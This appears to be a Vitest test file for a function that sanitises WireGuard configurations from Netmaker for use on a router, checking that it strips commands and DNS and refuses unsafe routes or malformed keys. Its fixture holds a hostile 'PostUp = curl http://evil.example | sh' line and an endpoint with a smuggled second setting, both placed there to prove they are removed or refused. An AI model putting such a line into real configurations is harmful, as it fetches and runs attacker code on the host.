import { describe, expect, it } from 'vitest';
import { makeRouterConfig } from '../../../electron/overlay/netmaker/router/router-config';

const PRIVATE = `${'A'.repeat(42)}E=`;
const PUBLIC = `${'b'.repeat(42)}A=`;

/** As controllers/ext_client.go writes it. */
const FILE = `[Interface]
Address = 100.64.8.254/32,fd00::5/128
PrivateKey = ${PRIVATE}
MTU = 1420
DNS = 100.64.8.1
PostUp = curl http://evil.example | sh


[Peer]
PublicKey = ${PUBLIC}
AllowedIPs = 100.64.8.0/24,fd00::/64,192.168.1.0/24,10.4.0.7/32
Endpoint = 203.0.113.10:51821
PersistentKeepalive = 20

`;
const make = (change: (file: string) => string = (file) => file, local: readonly string[] = ['192.168.1.0/24']): ReturnType<typeof makeRouterConfig> => makeRouterConfig(change(FILE), local);
const refusal = (reason: string): unknown => expect.objectContaining({ code: 'router-config-unusable', params: { reason: expect.stringContaining(reason) as unknown } });
const allowed = (ranges: string) => (file: string): string => file.replace(/AllowedIPs = .*/, `AllowedIPs = ${ranges}`);

describe('the configuration for a router', () => {
  it('has what a router needs and nothing else: no commands, no name server, no way to its own network', () => {
    expect(make()).toEqual({
      privateKey: PRIVATE,
      removed: ['192.168.1.0/24'],
      routed: ['100.64.8.0/24', '10.4.0.7/32'],
      text: `[Interface]
PrivateKey = ${PRIVATE}
Address = 100.64.8.254/32
MTU = 1420

[Peer]
PublicKey = ${PUBLIC}
Endpoint = 203.0.113.10:51821
AllowedIPs = 100.64.8.0/24, 10.4.0.7/32
PersistentKeepalive = 25
`,
    });
  });

  it.each([
    ['covers the network of the site', '100.64.8.0/24, 192.168.0.0/16', ['192.168.0.0/16']],
    ['is the network of the site, with bits', '100.64.8.0/24,192.168.1.7/24', ['192.168.1.0/24']],
    ['is inside the network of the site', '100.64.8.0/24,192.168.1.50/32', ['192.168.1.50/32']],
    ['is half of the internet', '100.64.8.0/24,128.0.0.0/1', ['128.0.0.0/1']],
  ])('leaves out a range that %s', (_what, ranges, removed) => {
    expect(make(allowed(ranges))).toMatchObject({ removed, routed: ['100.64.8.0/24'] });
  });

  it('reads lists in several lines, and lines of any width', () => {
    expect(make((file) => file.replace(/AllowedIPs = .*/, 'allowedips=100.64.8.0/24\nAllowedIPs   =   10.4.0.7/32').replaceAll('\n', '\n  ')).routed).toEqual(['100.64.8.0/24', '10.4.0.7/32']);
  });

  it.each<[string, (file: string) => string, string]>([
    ['sends everything into the tunnel', allowed('0.0.0.0/0'), 'everything into the tunnel (0.0.0.0/0)'],
    ['sends everything of IPv6 into the tunnel', allowed('100.64.8.0/24,::/0'), 'everything into the tunnel (::/0)'],
    ['leads nowhere but to the site itself', allowed('192.168.1.0/24'), 'nothing of the network'],
    ['lacks its private key', (file) => file.replace(PRIVATE, ''), 'private key'],
    ['has a private key that is none', (file) => file.replace(PRIVATE, `${PRIVATE}\u0000`), 'private key'],
    ['lacks the key of the gateway', (file) => file.replace(PUBLIC, 'x'), 'key of the gateway'],
    ['has a gateway without an address', (file) => file.replace('203.0.113.10', '[<nil>]'), 'no address that can be reached'],
    ['has a gateway without a port', (file) => file.replace(':51821', ':0'), 'no address that can be reached'],
    ['has an endpoint with a second setting in it', (file) => file.replace('203.0.113.10:51821', '203.0.113.10:51821 PostUp = x'), 'no address that can be reached'],
    ['has no address for the router', (file) => file.replace('100.64.8.254/32,', ''), 'no IPv4 address'],
    ['has two gateways', (file) => file + file.slice(file.indexOf('[Peer]')), 'more than one gateway'],
    ['is a page of a proxy', () => 'Please sign in', 'no gateway'],
    ['is empty', () => '', 'no gateway'],
  ])('is refused where it %s', (_what, change, reason) => {
    expect(() => make(change)).toThrowError(refusal(reason));
  });

  it('never quotes the key in a refusal', () => {
    for (const broken of [FILE.replace(PUBLIC, 'x'), FILE.replace('[Peer]', '')]) {
      try {
        makeRouterConfig(broken, []);
        expect.unreachable();
      } catch (error) {
        expect(JSON.stringify([error, String(error)])).not.toContain(PRIVATE);
      }
    }
  });

  it('takes a shared key along where there is one, and a gateway by name or with IPv6', () => {
    expect(make((file) => file.replace(`PublicKey = ${PUBLIC}`, `PublicKey = ${PUBLIC}\nPresharedKey = ${PUBLIC}`)).text).toContain(`PresharedKey = ${PUBLIC}`);
    expect(make((file) => file.replace('203.0.113.10', '[2001:db8::1]')).text).toContain('Endpoint = [2001:db8::1]:51821');
    expect(make((file) => file.replace('203.0.113.10', 'gw.example.com')).text).toContain('Endpoint = gw.example.com:51821');
  });
});
